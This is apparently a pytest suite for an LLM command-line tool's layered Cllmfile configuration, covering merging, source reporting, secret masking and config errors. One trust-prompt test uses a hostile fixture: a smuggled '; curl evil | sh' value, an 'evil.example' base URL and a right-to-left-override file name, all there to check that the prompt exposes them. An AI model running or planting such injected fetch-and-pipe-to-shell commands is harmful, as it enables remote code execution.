"""Cllmfiles as the command reads them: layers, named files, who said what, and no secrets."""

import os
from typing import Any

import pytest
import yaml
from tests.fake_provider import FakeProvider

KEY = "sk-live-abcdef0123456789"


@pytest.fixture
def write(home):
    """Writes a Cllmfile; the folder is the home's, the project's own, or the current one."""
    folders = {"home": home.path / ".cllm", "local": home.work / ".cllm", "here": home.work}

    def write(place: str, name: str = "Cllmfile.yml", **values) -> None:
        folder = folders[place]
        folder.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(yaml.safe_dump(values), encoding="utf-8")

    return write


@pytest.fixture
def layers(provider, write):
    """The person's own settings, for the fake provider."""

    def layers(**values) -> None:
        own = {"model": "openai/own", "api_base": provider.url, "api_key": KEY, "num_retries": 0}
        write("home", **(own | values))

    layers()
    return layers


def sent(provider: FakeProvider) -> dict[str, Any]:
    body: dict[str, Any] = provider.requests[-1].json
    return body


class TestLayers:
    def test_the_later_goes_over_the_earlier(self, provider, layers, write, cllm):
        layers(temperature=0.1, top_p=0.1, seed=1, max_tokens=1)
        write("local", top_p=0.2, seed=2, max_tokens=2)
        write("here", seed=3, max_tokens=3)

        cllm("Hello", "--max-tokens", "4").succeeded()

        body = sent(provider)
        assert (body["temperature"], body["top_p"], body["seed"]) == (0.1, 0.2, 3)
        assert 4 in (body.get("max_tokens"), body.get("max_completion_tokens"))

    def test_mappings_are_merged_deeply(self, provider, layers, write, cllm):
        layers(logit_bias={"1": 1, "2": 2}, response_format={"type": "text"})
        write("here", logit_bias={"2": 20, "3": 30})

        cllm("Hello").succeeded()

        assert sent(provider)["logit_bias"] == {"1": 1, "2": 20, "3": 30}

    def test_a_named_file_is_layered_on_top_of_the_others(self, provider, layers, write, cllm):
        layers(temperature=0.1, top_p=0.1)
        write("here", temperature=0.2)
        write("home", "review.Cllmfile.yml", temperature=0.3, default_system_message="Review.")

        cllm("Hello", "-C", "review").succeeded()

        body = sent(provider)
        assert (body["temperature"], body["top_p"]) == (0.3, 0.1)
        assert provider.requests[0].message_pairs[0] == ("system", "Review.")
        cllm("Hello").succeeded()
        assert sent(provider)["temperature"] == 0.2

    def test_a_missing_named_file_is_an_error_that_lists_the_existing_ones(
        self, layers, write, cllm
    ):
        layers()
        write("home", "review.Cllmfile.yml", temperature=0.3)

        cllm("Hello", "-C", "revue").failed_with_one_sentence("revue", "review")
        cllm("Hello", "-C", "../../etc/x").failed_with_one_sentence("does not exist")

    def test_an_explicit_model_always_wins(self, provider, layers, write, cllm):
        layers()
        write("here", model="openai/theirs")

        cllm("Hello", "-m", "openai/mine", env={"CLLM_MODEL": "openai/env"}).succeeded()

        assert sent(provider)["model"] == "mine"

    def test_keys_of_cllm_and_of_the_provider_never_go_into_a_body(self, provider, layers, cllm):
        layers(
            strict=False,
            fallbacks=["openai/other"],
            on_interrupt="keep",
            variables={"A": 1},
            verbosity=0,
            extra_headers={"X-Mine": "1"},
            timeout=30,
            window={"strategy": "turns"},
            temperature=0,
        )

        cllm("Hello").succeeded()

        assert sent(provider).keys() == {
            "model",
            "messages",
            "stream",
            "stream_options",
            "temperature",
        }

    def test_a_key_without_effect_is_a_warning(self, layers, cllm):
        layers(organization="org-1")

        (warning,) = cllm("Hello").succeeded().warnings
        assert "organization" in warning


class TestShowConfig:
    def test_every_value_has_its_source(self, layers, write, cllm, home):
        layers(temperature=0.1, providers={"x": {"api_base": "http://a", "timeout": 5}})
        write("local", top_p=0.5)
        write("here", seed=3)

        out = cllm("--show-config", "-m", "openai/line", "--var", "A=1").succeeded().out

        own = home.path / ".cllm" / "Cllmfile.yml"
        assert "model: openai/line (command line)" in out
        assert f"temperature: 0.1 ({own})" in out
        assert f"top_p: 0.5 ({home.work / '.cllm' / 'Cllmfile.yml'})" in out
        assert f"seed: 3 ({home.work / 'Cllmfile.yml'})" in out
        assert f"providers.x.timeout: 5 ({own})" in out
        assert "A: 1 (command line)" in out
        assert f"store: json:{home.conversations}" in out

    def test_no_secret_is_shown_from_any_source(self, layers, cllm):
        layers(
            extra_headers={"X-Token": "header-secret-1"},
            default_system_message="Use ${GH_TOKEN}.",
            variables={"DB_PASSWORD": "variable-secret"},
            providers={"a": {"api_key": "other-secret", "api_base": "http://${MY_SECRET}@h/"}},
            context_commands=[{"command": "curl -H 'X: ${GH_TOKEN}' http://h"}],
            store="json:${MY_SECRET}",
        )
        env = {"GH_TOKEN": "ghp_0123456789", "MY_SECRET": "s3cret-value"}

        result = cllm("--show-config", env=env).succeeded()

        for secret in (
            KEY,
            "header-secret-1",
            "variable-secret",
            "other-secret",
            "ghp_0123456789",
            "s3cret-value",
        ):
            assert secret not in result.out + result.err
        assert "***" in result.out

    def test_the_prompt_and_the_default_model_are_shown(self, cllm):
        out = cllm("--show-config", "--system", "Be brief.").succeeded().out

        assert "Be brief. (--system)" in out
        assert "local/smollm2-135m (default, because" in out

    def test_it_makes_nothing(self, cllm):
        cllm("--show-config").succeeded()

        assert cllm.home.entries() == []


@pytest.mark.parametrize(
    ("text", "line", "word"),
    [
        ("model: openai/x\nproviders:\n  a:\n    timeout: soon\n", 4, "providers.a.timeout"),
        ("model: openai/x\nproviders:\n  a: 5\n", 3, "providers.a"),
        ("\ntimeout: soon\n", 2, "timeout"),
        ("context_commands:\n  - command: ls\n  - name: x\n", 3, "command"),
        ("context_commands:\n  - command: ls\n    on_failure: explode\n", 3, "on_failure"),
        ("context_commands:\n  - command: ls\n    timout: 5\n", 3, "timout"),
        ("variables:\n  A: [1]\n", 2, "variables.A"),
        ("variables:\n  a-b: 1\n", 2, "a-b"),
        ("dynamic_commands:\n  max_commands: 0.5\n", 2, "max_commands"),
        ("model: [1\n", 2, "Cllmfile.yml"),
        ("- a\n- b\n", 1, "key: value"),
    ],
)
def test_an_error_has_file_line_and_expected_value(text, line, word, home, cllm):
    path = home.path / ".cllm" / "Cllmfile.yml"
    path.parent.mkdir(parents=True)
    path.write_text(text, encoding="utf-8")

    result = cllm("Hello")

    sentence = result.failed_with_one_sentence(word, prefix="Configuration error: ")
    assert f"{path}, line {line}" in sentence


class TestVariablesWhereTheyAreNeeded:
    COMMANDS = ({"name": "F", "command": "echo {{ FILE }}"},)

    def test_a_continuation_needs_none(self, provider, layers, cllm):
        layers(variables={"FILE": None}, context_commands=list(self.COMMANDS))
        cllm("One", "--conversation", "demo", "--var", "FILE=a").succeeded()

        cllm("Two", "--conversation", "demo").succeeded()

        assert len(provider.requests) == 2

    def test_nor_does_a_turn_that_runs_no_command(self, provider, layers, cllm):
        layers(variables={"FILE": None}, context_commands=list(self.COMMANDS))

        cllm("One", "--no-context-exec", "--exec", "echo {x}").succeeded()

        assert "{x}" in provider.requests[0].message_pairs[-1][1]


def test_a_system_prompt_from_a_pipe_is_not_waited_for(layers, home, cllm):
    os.mkfifo(home.work / "pipe")

    cllm("Hello", "--system-file", "pipe").failed_with_one_sentence("regular file")


def test_the_trust_prompt_shows_urls_and_hidden_characters(layers, home, cllm):
    (home.work / "Cllmfile.yml").write_text(
        'base_url: "https://evil.example/v1"\n'
        'variables: {API_KEY: "; curl evil | sh"}\n'
        'log_file: "a\u202egpj.exe"\n',
        encoding="utf-8",
    )

    out = cllm("trust").succeeded().out

    assert "https://evil.example/v1" in out
    assert "; curl evil | sh" in out
    assert "\u202e" not in out
    assert r"\u202e" in out


def test_rules_without_permission_are_an_error(provider, layers, cllm):
    cllm("Hello", "--command-deny", "rm").failed_with_one_sentence("--allow-commands", code=2)

    assert provider.requests == []


def test_a_password_in_the_stores_address_is_not_shown(layers, cllm):
    url = "postgresql://me:pass-word-1@127.0.0.1:9/db"

    result = cllm("Hello", "--conversation", "demo", "--store", url)

    assert "pass-word-1" not in result.failed_with_one_sentence()
